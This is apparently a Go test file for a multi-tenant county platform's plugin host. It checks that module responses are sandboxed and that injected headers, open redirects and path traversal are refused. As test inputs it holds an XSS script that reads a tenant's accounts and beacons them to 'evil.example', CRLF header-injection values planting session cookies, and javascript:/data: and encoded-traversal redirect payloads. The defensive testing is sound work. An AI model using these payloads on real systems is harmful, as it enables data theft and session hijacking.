package host_test

import (
	"bytes"
	"context"
	"encoding/json"
	"maps"
	"mime"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/go-kit/kit/endpoint"
	"github.com/prometheus/client_golang/prometheus"

	"github.com/countycloud/countycloud/core/kit"
	"github.com/countycloud/countycloud/core/store/storetest"
	"github.com/countycloud/countycloud/plugins/host"
	"github.com/countycloud/countycloud/tenants/provision/provisiontest"
	"github.com/countycloud/countycloud/tenants/registry"
)

// moduleSite serves the module routes of a catalog where Wengyuan and
// Lechang both enabled the notes module, as the platform's HTTP handler
// does, with every caller let through.
func moduleSite(t *testing.T) *httptest.Server {
	t.Helper()
	db := storetest.New(t)
	provisiontest.Registry(t, db, registry.CreateRequest{Code: wengyuan, Name: "翁源县"}, registry.CreateRequest{Code: lechang, Name: "乐昌市"})
	dir := t.TempDir()
	deps := host.Deps{Capabilities: host.NewCapabilities(time.Minute, time.Now), Router: provisiontest.Router(db, registry.LocatorInterval), Log: quiet, Now: time.Now}
	svc := host.NewService(host.NewMySQLRepository(db.Control), anyCounty{}, deps, fastOptions(), dir, nil)
	t.Cleanup(svc.Manager().Close)
	ctx := context.Background()
	file, sum := pluginScript(t, dir, "1.0.0")
	if _, err := svc.Register(ctx, "operator", host.RegisterInput{File: file, SHA256: sum}); err != nil {
		t.Fatal(err)
	}
	for _, county := range []string{wengyuan, lechang} {
		if _, err := svc.Enable(ctx, county, "notes", "admin", host.EnableInput{}); err != nil {
			t.Fatal(err)
		}
	}
	open := func(string) endpoint.Middleware { return func(e endpoint.Endpoint) endpoint.Endpoint { return e } }
	srv := httptest.NewServer(kit.Handler(quiet, prometheus.NewRegistry(), svc.Routes(open, kit.ServerOptions(quiet)...)...))
	t.Cleanup(srv.Close)
	return srv
}

// moduleAnswers has the notes module of county answer status, header and
// body, and returns what the platform served of it.
func moduleAnswers(t *testing.T, srv *httptest.Server, county string, status int, header map[string]string, body string) *http.Response {
	t.Helper()
	pairs := [][2]string{}
	for name, value := range header {
		pairs = append(pairs, [2]string{name, value})
	}
	req, _ := json.Marshal(map[string]any{"status": status, "header": pairs, "body": body})
	resp, err := http.Post(srv.URL+"/v1/tenants/"+county+"/modules/notes/answer", "application/json", bytes.NewReader(req))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { resp.Body.Close() })
	return resp
}

func errorCode(t *testing.T, resp *http.Response) string {
	t.Helper()
	var e kit.ErrorBody
	if err := json.NewDecoder(resp.Body).Decode(&e); err != nil {
		t.Fatalf("an error answer that is not the error format: %v", err)
	}
	return e.Error.Code
}

func TestAModuleAnswerRunsNothingOnThePlatformsOrigin(t *testing.T) {
	t.Parallel()
	srv := moduleSite(t)
	script := `<html><script>fetch("/v1/tenants/` + wengyuan + `/accounts").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script>`
	for name, c := range map[string]struct {
		header     map[string]string
		wantType   string
		attachment bool
	}{
		"a page with a script":           {map[string]string{"Content-Type": "text/html; charset=utf-8"}, "text/html; charset=utf-8", true},
		"a page that asks to be inline":  {map[string]string{"Content-Type": "text/html", "Content-Disposition": "inline"}, "text/html", true},
		"a page under a lower-case name": {map[string]string{"content-type": "text/html"}, "text/html", true},
		"an SVG image":                   {map[string]string{"Content-Type": "image/svg+xml"}, "image/svg+xml", true},
		"XML":                            {map[string]string{"Content-Type": "application/xml"}, "application/xml", true},
		"XHTML":                          {map[string]string{"Content-Type": "application/xhtml+xml"}, "application/xhtml+xml", true},
		"a script":                       {map[string]string{"Content-Type": "text/javascript"}, "text/javascript", true},
		"no type":                        {nil, "application/octet-stream", true},
		"a type that does not parse":     {map[string]string{"Content-Type": "text/html;;"}, "application/octet-stream", true},
		"JSON":                           {map[string]string{"Content-Type": "application/json; charset=utf-8"}, "application/json; charset=utf-8", false},
		"plain text":                     {map[string]string{"Content-Type": "text/plain"}, "text/plain", false},
		"CSV":                            {map[string]string{"Content-Type": "text/csv"}, "text/csv", false},
		"a PNG image":                    {map[string]string{"Content-Type": "image/png"}, "image/png", false},
	} {
		resp := moduleAnswers(t, srv, wengyuan, 200, c.header, script)
		h := resp.Header
		if resp.StatusCode != 200 || h.Get("Content-Type") != c.wantType {
			t.Errorf("%s: %d %q, want 200 %q", name, resp.StatusCode, h.Get("Content-Type"), c.wantType)
		}
		if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "sandbox; default-src 'none'") {
			t.Errorf("%s: Content-Security-Policy %q", name, csp)
		}
		if h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: X-Content-Type-Options %q", name, h.Get("X-Content-Type-Options"))
		}
		kind, _, _ := mime.ParseMediaType(h.Get("Content-Disposition"))
		if c.attachment != (kind == "attachment") {
			t.Errorf("%s: Content-Disposition %q, attachment wanted: %v", name, h.Get("Content-Disposition"), c.attachment)
		}
	}
	resp := moduleAnswers(t, srv, wengyuan, 200, map[string]string{"Content-Type": "text/html", "Content-Disposition": `inline; filename="报告.html"`}, script)
	if _, p, _ := mime.ParseMediaType(resp.Header.Get("Content-Disposition")); p["filename"] != "报告.html" {
		t.Errorf("a page's file name is lost: Content-Disposition %q", resp.Header.Get("Content-Disposition"))
	}
}

func TestAModuleAnswerIsKeptByNoCache(t *testing.T) {
	t.Parallel()
	srv := moduleSite(t)
	for _, cc := range []string{"public, max-age=31536000", "public", "", "private, max-age=600"} {
		resp := moduleAnswers(t, srv, wengyuan, 200, map[string]string{"Content-Type": "application/json", "Cache-Control": cc}, `{}`)
		if got := resp.Header.Get("Cache-Control"); got != "private, no-store" {
			t.Errorf("a module that says Cache-Control %q is served with %q", cc, got)
		}
	}
}

// TestAPublicAnswerMayBeKeptForAWhile: a public route's GET answered 200
// or 304 keeps a module's "public, max-age=N" up to MaxPublicMaxAge;
// anything else is kept by no cache.
func TestAPublicAnswerMayBeKeptForAWhile(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		method string
		status int32
		cc     string
		want   string
	}{
		{"GET", 200, "public, max-age=60", "public, max-age=60"},
		{"GET", 304, "public, max-age=300", "public, max-age=300"},
		{"GET", 200, "public, max-age=0", "public, max-age=0"},
		{"GET", 200, "public, max-age=301", "private, no-store"},
		{"GET", 200, "public, max-age=60, s-maxage=86400", "private, no-store"},
		{"GET", 200, "public, max-age=060", "public, max-age=060"},
		{"GET", 200, "public", "private, no-store"},
		{"GET", 200, "private, max-age=60", "private, no-store"},
		{"GET", 200, "", "private, no-store"},
		{"GET", 404, "public, max-age=60", "private, no-store"},
		{"POST", 200, "public, max-age=60", "private, no-store"},
	} {
		_, h, err := host.PublicAnswerHeaders(wengyuan, "notes", c.method, c.status, map[string]string{"Content-Type": "application/json", "cache-control": c.cc})
		if err != nil || h.Get("Cache-Control") != c.want {
			t.Errorf("%s %d %q: served with %q (%v), want %q", c.method, c.status, c.cc, h.Get("Cache-Control"), err, c.want)
		}
	}
	// On a staff route, nothing is kept.
	if _, h, _ := host.AnswerHeaders(wengyuan, "notes", 200, map[string]string{"Cache-Control": "public, max-age=60"}); h.Get("Cache-Control") != "private, no-store" {
		t.Errorf("a staff route's answer: %q", h.Get("Cache-Control"))
	}
}

func TestAModuleSetsOnlyTheHeadersItMay(t *testing.T) {
	t.Parallel()
	srv := moduleSite(t)
	resp := moduleAnswers(t, srv, wengyuan, 200, map[string]string{
		"Content-Type":                     "application/json",
		"Set-Cookie":                       "session=stolen; Path=/; Domain=.platform.example",
		"set-cookie2":                      "session=stolen",
		"Access-Control-Allow-Origin":      "*",
		"Access-Control-Allow-Credentials": "true",
		"Content-Security-Policy":          "default-src *",
		"Refresh":                          "0; url=https://evil.example",
		"Link":                             "<https://evil.example/x.js>; rel=preload",
		"Strict-Transport-Security":        "max-age=0",
		"X-Frame-Options":                  "ALLOWALL",
		"Clear-Site-Data":                  `"*"`,
		"ETag":                             `"v1"`,
	}, `{}`)
	if resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
	for _, name := range []string{"Set-Cookie", "Set-Cookie2", "Access-Control-Allow-Origin", "Access-Control-Allow-Credentials", "Refresh", "Link", "Strict-Transport-Security", "Clear-Site-Data"} {
		if v := resp.Header.Values(name); len(v) > 0 {
			t.Errorf("the module set %s: %q", name, v)
		}
	}
	if csp := resp.Header.Get("Content-Security-Policy"); strings.Contains(csp, "*") || !strings.Contains(csp, "sandbox") {
		t.Errorf("Content-Security-Policy %q", csp)
	}
	if xfo := resp.Header.Get("X-Frame-Options"); xfo != "DENY" {
		t.Errorf("X-Frame-Options %q", xfo)
	}
	if resp.Header.Get("ETag") != `"v1"` {
		t.Errorf("ETag %q, a header a module may set", resp.Header.Get("ETag"))
	}
}

func TestAModuleAnswerWithALineBreakInAHeaderIsRefused(t *testing.T) {
	t.Parallel()
	srv := moduleSite(t)
	for name, header := range map[string]map[string]string{
		"CR LF and a cookie":     {"Content-Disposition": "attachment\r\nSet-Cookie: session=stolen"},
		"LF alone":               {"Content-Language": "zh-CN\nRefresh: 0"},
		"CR alone":               {"ETag": "\"v1\"\rSet-Cookie: a=b"},
		"NUL":                    {"Last-Modified": "Sun, 06 Dec 2026 16:00:00 GMT\x00"},
		"a name given twice":     {"Content-Type": "text/plain", "content-type": "text/html"},
		"a line break in a type": {"Content-Type": "text/plain\r\nSet-Cookie: a=b"},
	} {
		resp := moduleAnswers(t, srv, wengyuan, 200, header, "x")
		if resp.StatusCode != http.StatusBadGateway || resp.Header.Get("Set-Cookie") != "" || resp.Header.Get("Refresh") != "" {
			t.Errorf("%s: %d %v", name, resp.StatusCode, resp.Header)
			continue
		}
		if code := errorCode(t, resp); code != host.CodeModuleBadAnswer {
			t.Errorf("%s: code %s, want %s", name, code, host.CodeModuleBadAnswer)
		}
	}
	if resp := moduleAnswers(t, srv, wengyuan, 101, map[string]string{"Upgrade": "websocket"}, ""); resp.StatusCode != http.StatusBadGateway {
		t.Errorf("a module that answers 101: %d", resp.StatusCode)
	}
}

func TestAModuleRedirectsOnlyWithinItsOwnRoutes(t *testing.T) {
	t.Parallel()
	srv := moduleSite(t)
	own := "/v1/tenants/" + wengyuan + "/modules/notes/"
	for _, loc := range []string{
		"https://evil.example/",
		"http://127.0.0.1/" + own,
		"//evil.example/" + own,
		"/\\evil.example",
		"\\\\evil.example",
		"/\t/evil.example",
		"javascript:alert(document.domain)",
		"data:text/html,<script>alert(1)</script>",
		own + "../../../accounts",
		own + "%2e%2e/%2e%2e/%2e%2e/accounts",
		own + ".%2E/.%2e/../accounts",
		own + "..%2f..%2f..%2faccounts",
		own + "x/./../../vod/videos",
		own + "x//evil",
		"/v1/tenants/" + lechang + "/modules/notes/notes/n1",
		"/v1/tenants/" + wengyuan + "/modules/vod/videos",
		"/v1/tenants/" + wengyuan + "/modules/notes",
		"/v1/tenants/" + wengyuan + "/accounts",
		"notes/n1",
		"https://" + strings.TrimPrefix(srv.URL, "http://") + own + "notes/n1",
	} {
		resp := moduleAnswers(t, srv, wengyuan, 302, map[string]string{"Location": loc}, "")
		if resp.StatusCode != http.StatusBadGateway || resp.Header.Get("Location") != "" {
			t.Errorf("Location %q: %d, Location %q", loc, resp.StatusCode, resp.Header.Get("Location"))
			continue
		}
		if code := errorCode(t, resp); code != host.CodeModuleBadAnswer {
			t.Errorf("Location %q: code %s", loc, code)
		}
	}
	for _, loc := range []string{own + "notes/n1", own + "notes/n1?view=full#top", own} {
		resp := moduleAnswers(t, srv, wengyuan, 201, map[string]string{"Location": loc, "Content-Type": "application/json"}, `{}`)
		if resp.StatusCode != 201 || resp.Header.Get("Location") != loc {
			t.Errorf("Location %q within the module: %d %q", loc, resp.StatusCode, resp.Header.Get("Location"))
		}
	}
	// Lechang's module may not send its callers into Wengyuan's.
	resp := moduleAnswers(t, srv, lechang, 303, map[string]string{"Location": own + "notes/n1"}, "")
	if resp.StatusCode != http.StatusBadGateway || resp.Header.Get("Location") != "" {
		t.Errorf("Lechang's module sends to Wengyuan's routes: %d %q", resp.StatusCode, resp.Header.Get("Location"))
	}
}

// FuzzModuleAnswer holds the rules of answer for any header a module may
// give: what is served has no control character, a type not shown in
// place goes as an attachment, and a Location, resolved as a client
// would, stays on the platform's host within the module's routes.
func FuzzModuleAnswer(f *testing.F) {
	own := "/v1/tenants/" + wengyuan + "/modules/notes/"
	f.Add(int32(302), own+"x", "text/html", "inline", "public")
	f.Add(int32(200), "", "image/svg+xml; charset=utf-8", `inline; filename="a.svg"`, "")
	f.Add(int32(201), own+"%2e%2e/x", "application/json", "", "no-cache")
	f.Add(int32(200), "", "application/json", "", "public, max-age=60")
	f.Add(int32(304), "", "", "", "public, max-age=3000")
	f.Add(int32(303), "//evil.example", "", "attachment\r\nSet-Cookie: a=b", "")
	f.Add(int32(200), own+"a?b#c", "text/plain;charset=\"utf-8\"", "attachment; filename*=UTF-8''%E6%8A%A5.txt", "")
	base, _ := url.Parse("https://platform.example" + own + "a/b")
	f.Fuzz(func(t *testing.T, status int32, location, contentType, disposition, cacheControl string) {
		headers := map[string]string{"Content-Type": contentType, "Content-Disposition": disposition, "Cache-Control": cacheControl}
		if location != "" {
			headers["Location"] = location
		}
		got, h, err := host.AnswerHeaders(wengyuan, "notes", status, headers)
		if err != nil {
			return
		}
		if got != int(status) || got < 200 || got > 599 {
			t.Fatalf("status %d served as %d", status, got)
		}
		for name, vs := range h {
			for _, v := range vs {
				if strings.ContainsAny(v, "\r\n\x00") {
					t.Fatalf("%s: %q", name, v)
				}
			}
		}
		if h.Get("Cache-Control") != "private, no-store" || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
			t.Fatalf("headers %v", h)
		}
		// A public route's answer is the same but for what caches may keep.
		pgot, ph, perr := host.PublicAnswerHeaders(wengyuan, "notes", "GET", status, headers)
		if perr != nil || pgot != got {
			t.Fatalf("the public answer: %d %v, the answer: %d", pgot, perr, got)
		}
		if cc := ph.Get("Cache-Control"); cc != "private, no-store" && (cc != cacheControl || got != 200 && got != 304) {
			t.Fatalf("a public answer %d with Cache-Control %q served with %q", got, cacheControl, cc)
		}
		if age, ok := strings.CutPrefix(ph.Get("Cache-Control"), "public, max-age="); ok {
			if n, err := strconv.Atoi(age); err != nil || n > host.MaxPublicMaxAge {
				t.Fatalf("kept for %q", age)
			}
		}
		ph.Del("Cache-Control")
		h.Del("Cache-Control")
		if !maps.EqualFunc(ph, h, slices.Equal) {
			t.Fatalf("the public answer's headers %v, the answer's %v", ph, h)
		}
		mt, _, err := mime.ParseMediaType(h.Get("Content-Type"))
		if err != nil {
			t.Fatalf("served type %q does not parse: %v", h.Get("Content-Type"), err)
		}
		shown := map[string]bool{"application/json": true, "text/plain": true, "text/csv": true, "image/png": true, "image/jpeg": true, "image/gif": true, "image/webp": true, "image/avif": true, "image/bmp": true}
		if kind, _, _ := mime.ParseMediaType(h.Get("Content-Disposition")); !shown[mt] && kind != "attachment" {
			t.Fatalf("type %q served with Content-Disposition %q", mt, h.Get("Content-Disposition"))
		}
		if location == "" {
			return
		}
		ref, err := url.Parse(h.Get("Location"))
		if err != nil {
			t.Fatalf("Location %q served, which does not parse: %v", h.Get("Location"), err)
		}
		to := base.ResolveReference(ref)
		if to.Host != base.Host || to.Scheme != base.Scheme || !strings.HasPrefix(to.Path, own) || strings.Contains(to.Path, "/../") {
			t.Fatalf("Location %q leads to %s", location, to)
		}
	})
}
